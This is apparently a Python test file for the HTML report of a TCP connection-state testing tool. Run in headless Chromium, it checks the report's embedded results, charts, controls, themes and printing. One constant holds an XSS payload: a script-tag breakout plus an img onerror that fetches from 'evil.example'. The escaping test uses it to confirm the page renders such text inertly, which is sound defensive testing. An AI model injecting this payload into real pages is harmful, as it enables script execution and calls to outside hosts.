"""--format html: one page that asks no network, looked at and clicked in headless Chromium."""

import json
import os
import re
import shutil
import subprocess
import unittest

import browser
import finwait_test as ft

STORED = os.path.join(ft.SOURCE, "tests/data/result/page.json")
LARGEST = 500_000
HOSTILE = "</script><img src=x onerror=\"fetch('//evil.example')\"><!-- &lt;b>\u2028'\"`${1}"
STATES = ("established", "fin_wait1", "time_wait", "listen")


def load(file):
    with open(file, encoding="utf-8") as stream:
        return json.load(stream)


def page(*results, name="page.html"):
    """The page of results, each a file or what is in one."""
    files = []
    for number, result in enumerate(results):
        known = isinstance(result, str)
        files.append(result if known else ft.PLACE.write(f"{number}.json", json.dumps(result)))
    made = os.path.join(ft.PLACE.path, name)
    ended = ft.finwait("report", *files, "--format", f"html={made}")
    if ended.status not in (0, 1):
        raise AssertionError(str(ended))
    return made


def text_of(file):
    with open(file, encoding="utf-8") as stream:
        return stream.read()


BUILT = ft.finwait("report", STORED, "--format=html").status != 2


@unittest.skipIf(BUILT, "built with it")
class Absent(ft.TestCase):
    def test_says_what_to_build(self):
        ended = ft.finwait("report", STORED, "--format=html")
        self.assertEqual(ended.stdout, "")
        self.assertIn("FINWAIT_HTML=OFF", ended.stderr)


@unittest.skipUnless(BUILT, "built without it")
class Page(ft.TestCase):
    """What can be said of the file without a browser."""

    def test_holds_the_results(self):
        html = text_of(page(STORED, STORED))
        held = re.findall(r'<script type="application/json" class="result">(.*?)</script>', html)
        self.assertEqual([json.loads(text)["name"] for text in held], ["page", "page"])
        whole = load(STORED)
        self.assertEqual(json.loads(held[0])["expectations"], whole["expectations"])

    def test_says_whose_the_charts_are(self):
        html = text_of(page(STORED))
        self.assertIn("Permission is hereby granted, free of charge", html)
        self.assertIn("Dan Vanderkam", html)

    def test_long_series_are_thinned_and_keep_their_peak(self):
        result = load(STORED)
        many = 100_000
        series = {"at": [i * 10**8 for i in range(many)], "time_wait": [7] * many}
        series["time_wait"][many // 3] = 12345
        result["server"]["observations"] = series
        result["inspections"] = [
            {"host": "client", "command": "yes", "status": 0, "output": "é" * 400_000}
        ]
        made = page(result)
        self.assertLess(os.path.getsize(made), LARGEST)
        held = json.loads(re.search(r'class="result">(.*?)</script>', text_of(made)).group(1))
        self.assertIn(12345, held["server"]["observations"]["time_wait"])
        self.assertEqual(held["server"]["observations"]["thinned_from"], many)
        self.assertTrue(held["inspections"][0]["cut"])

    def test_five_results_have_room(self):
        self.assertLess(os.path.getsize(page(*[STORED] * 5)), LARGEST)

    @unittest.skipUnless(shutil.which("tidy"), "tidy is not here")
    def test_is_html_to_tidy(self):
        checked = subprocess.run(
            ["tidy", "-errors", "-quiet", "--drop-empty-elements", "no", page(STORED)],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
        )
        self.assertEqual((checked.returncode, checked.stdout), (0, ""))


@unittest.skipUnless(BUILT and browser.CHROMIUM, "built without it, or chromium is not here")
class Looked(ft.TestCase):
    """What a reader sees of it."""

    @classmethod
    def setUpClass(cls):
        cls.browser = browser.Browser().__enter__()
        cls.browser.size(1280, 900)

    @classmethod
    def tearDownClass(cls):
        cls.browser.__exit__()

    def open(self, *results):
        file = page(*results)
        self.assertLess(os.path.getsize(file), LARGEST)
        self.browser.open(file)
        return file

    def run_in(self, script):
        return self.browser.run(script)

    def tearDown(self):
        self.assertEqual(self.browser.complaints, [])
        self.assertEqual([url[:8] for url in self.browser.requests], ["file:///"])

    def charts(self, what):
        script = f"[...document.querySelectorAll('.chart')].map((chart) => {what})"
        return self.run_in(script)

    def pictures(self):
        """What is drawn on each chart, as PNG in base64."""
        return self.charts(
            "[...chart.querySelectorAll('canvas')].map((canvas) => canvas.toDataURL()).join()"
        )

    def test_draws_each_state_and_distribution(self):
        self.open(STORED)
        result = load(STORED)
        series = self.charts("[chart.dataset.end ?? chart.dataset.chart, +chart.dataset.series]")
        timed = sum(len(result[side]["account"]["latency"]) for side in ("client", "server"))
        columns = {side: len(result[side]["observations"]) - 1 for side in ("client", "server")}
        self.assertEqual(
            dict(series), {**columns, "bars": timed, "percentiles": timed}
        )
        for picture in self.pictures():
            self.assertGreater(len(picture), 8000)

    def test_says_what_the_result_says(self):
        self.open(STORED)
        self.assertEqual(self.run_in("document.querySelector('.word').textContent"), "FAIL")
        text = self.run_in("document.body.innerText")
        for part in ("PASS", "kill server", "TcpExtTW", *load(STORED)["environment"]):
            self.assertIn(part, text)
        for remark in load(STORED)["remarks"]:
            self.assertIn(remark["text"], text)
        self.assertEqual(
            self.run_in("document.querySelectorAll('.packet').length"),
            len(load(STORED)["capture"]["seen"]),
        )
        met = "[...document.querySelectorAll('.state')].filter((s) => s.dataset.met.includes('server'))"
        states = self.run_in(f"{met}.map((s) => s.dataset.state)")
        self.assertLessEqual(set(STATES), set(states))

    def test_whoever_closed_first_is_told(self):
        text = text_of(page(STORED))
        self.assertIn('"closed_first.both":0,', text)
        proxied = text.replace('"closed_first.both":0,', '"closed_first.proxy":70,')
        self.browser.open(ft.PLACE.write("proxied.html", proxied))
        self.assertIn("proxy 70", self.run_in("document.querySelector('.figures').innerText"))
        nobody = re.sub(r'("closed_first\.\w+":)\d+', r"\g<1>0", text)
        self.browser.open(ft.PLACE.write("nobody.html", nobody))
        self.assertIn("nobody", self.run_in("document.querySelector('.figures').innerText"))

    def test_a_click_hides_a_state(self):
        self.open(STORED)
        before = self.pictures()
        self.run_in("document.querySelector('.end:last-child .legend input').click()")
        shown = self.charts("chart.dataset.series - chart.dataset.visible")
        self.assertGreater(shown[1], shown[0])
        self.assertNotEqual(self.pictures()[1], before[1])
        self.assertEqual(self.pictures()[0], before[0])

    def test_buttons_change_the_scale(self):
        self.open(STORED)
        before = self.pictures()
        for label in ("logarithmic", "change per second"):
            button = f"[...document.querySelectorAll('button')].find((b) => b.textContent === '{label}')"
            self.run_in(f"{button}.click()")
            self.assertNotEqual(self.pictures()[:2], before[:2], label)
            self.run_in(f"{button}.click()")
            self.assertEqual(self.pictures()[:2], before[:2], label)

    def test_a_pointer_reads_values_and_zooms_all(self):
        self.open(STORED)
        self.run_in("document.querySelector('.chart').scrollIntoView({block: 'center'})")
        box = "document.querySelector('.chart').getBoundingClientRect()"
        left, top, width, height = self.run_in(f"(b => [b.x, b.y, b.width, b.height])({box})")
        before = self.pictures()
        self.browser.mouse("mouseMoved", left + width / 2, top + height / 2)
        self.assertIn("at ", self.run_in("document.querySelector('.legend th').textContent"))
        now = "[...document.querySelectorAll('.end:first-child td.now')].map((c) => c.textContent)"
        self.assertNotIn("", self.run_in(now))
        self.browser.drag(left + width * 0.4, left + width * 0.6, top + height / 2)
        zoomed = self.pictures()
        self.assertEqual([a != b for a, b in zip(before, zoomed)], [True, True, False, False])

    def test_results_lie_over_each_other(self):
        other = load(STORED)
        other["scenario"]["name"] = other["name"] = "other"
        self.open(STORED, other)
        series = self.charts("+chart.dataset.visible")
        self.run_in("document.querySelector('#results input').click()")
        self.assertEqual(self.charts("2 * chart.dataset.visible"), series)
        counters = "getComputedStyle([...document.querySelectorAll('#numbers th')][1]).display"
        self.assertEqual(self.run_in(counters), "none")
        hidden = "[...document.querySelectorAll('.of-result')].map((block) => block.hidden)"
        self.assertEqual(set(self.run_in(hidden)), {True, False})

    def test_light_and_dark(self):
        background = "getComputedStyle(document.body).backgroundColor"
        self.browser.prefer("dark")
        self.open(STORED)
        dark = self.run_in(background)
        self.run_in("document.getElementById('theme').click()")
        light = self.run_in(background)
        self.browser.prefer("light")
        self.open(STORED)
        self.assertEqual(self.run_in(background), light)
        self.assertNotEqual(dark, light)

    def test_prints_and_is_not_blank(self):
        self.open(STORED)
        self.assertGreater(len(self.browser.screenshot()), 20_000)
        self.assertGreater(len(self.browser.pdf()), 20_000)

    def test_what_a_result_says_is_no_markup(self):
        result = load(STORED)
        result["scenario"]["name"] = result["scenario"]["about"] = HOSTILE
        result["environment"][HOSTILE] = HOSTILE
        result["environment"]["__proto__"] = HOSTILE
        result["unpredicted"] = HOSTILE
        result["inspections"] = [
            {"host": "client", "command": HOSTILE, "status": 0, "output": HOSTILE}
        ]
        for part, key in (("remarks", "text"), ("expectations", "text"), ("timeline", "what")):
            result[part][0][key] = HOSTILE
        result["client"]["sysctl"] = {HOSTILE: HOSTILE}
        self.open(result)
        self.assertEqual(self.run_in("document.images.length"), 0)
        self.assertEqual(self.run_in("document.querySelectorAll('body script').length"), 3)
        self.assertEqual(self.run_in("document.getElementById('title').textContent"), HOSTILE)

    def test_nothing_was_seen(self):
        made = os.path.join(ft.PLACE.path, "dead.html")
        settings = {"server.at": f"127.0.0.1:{ft.free_port()}", "lab": "host", "settle": "0s"}
        ft.finwait(*ft.as_arguments({**settings, "load.connections": 2}), f"--format=html={made}")
        self.browser.open(made)
        self.assertEqual(self.charts("1"), [])
        self.assertIn("No sample saw", self.run_in("document.body.innerText"))

    def test_every_stored_result(self):
        for name in sorted(os.listdir(os.path.dirname(STORED))):
            file = os.path.join(os.path.dirname(STORED), name)
            if name.endswith(".json"):
                with self.subTest(name):
                    self.open(file)
                    self.assertIn(self.run_in("document.getElementById('title').textContent"),
                                  load(file)["scenario"]["name"])
                    self.assertEqual(self.browser.complaints, [])

    def test_a_run(self):
        made = os.path.join(ft.PLACE.path, "run.html")
        settings = {"lab": "host", "server.port": ft.free_port(), "load.connections": 50}
        arguments = ft.as_arguments({**settings, "settle": "300ms", "order": "client-first"})
        ended = ft.finwait(*arguments, "--format", f"html={made}")
        self.assertEqual(ended.status, 0, ended)
        self.browser.open(made)
        self.assertEqual(self.charts("chart.dataset.end ?? chart.dataset.chart"),
                         ["client", "server", "bars", "percentiles"])


if __name__ == "__main__":
    ft.main()
